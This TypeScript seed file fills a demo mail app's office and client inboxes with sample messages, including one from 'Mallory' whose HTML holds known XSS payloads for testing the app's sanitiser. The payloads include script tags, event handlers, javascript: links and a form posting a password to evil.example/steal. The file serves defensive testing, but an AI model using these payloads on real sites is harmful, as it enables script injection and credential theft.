import { sql, type Db } from '../db/connect';
import type { FileStore } from '../files/fileStore';
import { IDS } from './ids';
import { avatarPng, simplePdf } from './profile';

type Seeded = {
  from: [string | null, string];
  subject: string;
  hoursAgo: number;
  html: string | null;
  text: string;
  read?: boolean;
  unsubscribe?: string;
  attachment?: { name: string; bytes: Buffer; type: string };
};

const pixel = () => `data:image/png;base64,${avatarPng(24, [40, 140, 90]).toString('base64')}`;

/*
 * Known XSS payloads (OWASP filter-evasion cheat sheet) as a hostile sender would mail them:
 * the app's sanitiser must leave every one inert. The unit table covers many more.
 */
const XSS_HTML = `<p>Hello, please review the attached figures.</p>
<script>alert('xss-script')</script>
<img src="x" onerror="alert('xss-onerror')" alt="broken">
<a href="javascript:alert('xss-href')">Open the report</a>
<svg onload="alert('xss-svg')"><circle r="4"></circle></svg>
<iframe srcdoc="<script>alert('xss-srcdoc')</script>"></iframe>
<div style="background:url(javascript:alert('xss-css'))">Styled block</div>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<p>Regards, Mallory</p>`;

function seededMail(): { office: Seeded[]; client: Seeded[] } {
  const table = `<p>Dear office,</p><p>Here are this week's hours:</p>
<table border="1" cellpadding="4"><thead><tr><th>Name</th><th>Hours</th></tr></thead>
<tbody><tr><td>Alex Crew</td><td>32</td></tr><tr><td>Sam Chief</td><td>38.5</td></tr></tbody></table>
<p>Kind regards,<br>Payroll desk</p>`;
  const office: Seeded[] = [
    {
      from: ['Payroll desk', 'payroll@provider.example'],
      subject: 'Weekly hours overview',
      hoursAgo: 2,
      html: table,
      text: "Dear office, here are this week's hours. Alex Crew 32, Sam Chief 38.5.",
    },
    {
      from: ['Fair Events', 'bookings@fairevents.example'],
      subject: 'Signed quotation attached',
      hoursAgo: 5,
      html: `<p>Good morning,</p><p>Please find the signed quotation attached.</p>
<p><img src="${pixel()}" alt="Fair Events logo" width="24" height="24"> Fair Events</p>
<p><img src="https://images.fairevents.example/banner.png" alt="Autumn fair banner"></p>`,
      text: 'Good morning, please find the signed quotation attached.',
      attachment: {
        name: 'signed-quotation.pdf',
        bytes: simplePdf('Signed quotation'),
        type: 'application/pdf',
      },
    },
    {
      from: ['Jordan Client', 'jordan@client.example'],
      subject: 'Re: Crew for the Fair honesty build-up',
      hoursAgo: 26,
      read: true,
      html: `<p>Twelve is fine, thank you.</p>
<blockquote><p>On Monday the office wrote:</p><p>Can we confirm twelve crew for the build-up?</p>
<blockquote><p>Jordan wrote: we may need more hands on Thursday.</p></blockquote></blockquote>`,
      text: 'Twelve is fine, thank you. > Can we confirm twelve crew for the build-up?',
    },
    {
      from: ['Mallory', 'mallory@evil.example'],
      subject: 'Invoice figures (suspicious)',
      hoursAgo: 30,
      html: XSS_HTML,
      text: 'Hello, please review the attached figures.',
    },
    {
      from: ['Venue news', 'news@venues.example'],
      subject: 'Venue newsletter: November',
      hoursAgo: 50,
      read: true,
      html: '<h2>November at the venues</h2><p>Three new halls open this month.</p>',
      text: 'November at the venues. Three new halls open this month.',
      unsubscribe: '<https://venues.example/unsubscribe/42>',
    },
    {
      from: [null, 'noreply@provider.example'],
      subject: 'Plain text notice',
      hoursAgo: 80,
      read: true,
      html: null,
      text: 'Your monthly report is ready.\n\nThis is a plain text message.',
    },
  ];
  // Enough older mail to page through (the list shows 25 at a time).
  for (let n = 1; n <= 40; n += 1) {
    office.push({
      from: ['Planning bot', 'planning@provider.example'],
      subject: `Daily planning summary ${n}`,
      hoursAgo: 100 + n * 24,
      read: true,
      html: `<p>Summary number ${n}: all crews confirmed.</p>`,
      text: `Summary number ${n}: all crews confirmed.`,
    });
  }
  const client: Seeded[] = [
    {
      from: ['Crew Hub provider', 'office@provider.example'],
      subject: 'Your crew for next week is confirmed',
      hoursAgo: 3,
      html: '<p>All twelve positions are filled. See the project page for names.</p>',
      text: 'All twelve positions are filled. See the project page for names.',
    },
  ];
  return { office, client };
}

/**
 * Issue 15 (mailbox): an office inbox (the office login), a client inbox (the client login),
 * and their mail as delivered: a table, inline and remote images, a quoted reply, a PDF
 * attachment, a newsletter with List-Unsubscribe, plain text, and known XSS payloads.
 */
export async function seedMail(db: Db, files: FileStore, today: Date): Promise<void> {
  const { office, client } = seededMail();
  const boxes = [
    { name: 'Office inbox', address: 'office@provider.example', reader: IDS.office, mail: office },
    { name: 'Client inbox', address: 'client@demo.test', reader: IDS.client, mail: client },
  ];
  for (const box of boxes) {
    const row = await db.one<{ id: number }>(sql`INSERT INTO mailboxes (name, address)
      VALUES (${box.name}, ${box.address}) RETURNING id`);
    const mailboxId = row!.id;
    await db.run(sql`INSERT INTO mailbox_readers (mailbox_id, person_id)
      VALUES (${mailboxId}, ${box.reader})`);
    for (const m of box.mail) {
      const at = new Date(today.getTime() + 12 * 3600_000 - m.hoursAgo * 3600_000);
      const msg = await db.one<{ id: number }>(sql`INSERT INTO email_messages
          (mailbox_id, from_name, from_address, to_address, subject, received_at, html,
           text_body, list_unsubscribe, read_at)
        VALUES (${mailboxId}, ${m.from[0]}, ${m.from[1]}, ${box.address}, ${m.subject},
          ${at.toISOString()}, ${m.html}, ${m.text}, ${m.unsubscribe ?? null},
          ${m.read ? at.toISOString() : null})
        RETURNING id`);
      if (m.attachment) {
        const stored = await files.put([m.attachment.bytes]);
        await db.run(sql`INSERT INTO email_attachments
            (message_id, file_name, content_type, size, store_key)
          VALUES (${msg!.id}, ${m.attachment.name}, ${m.attachment.type}, ${stored.size},
            ${stored.key})`);
      }
    }
  }
}
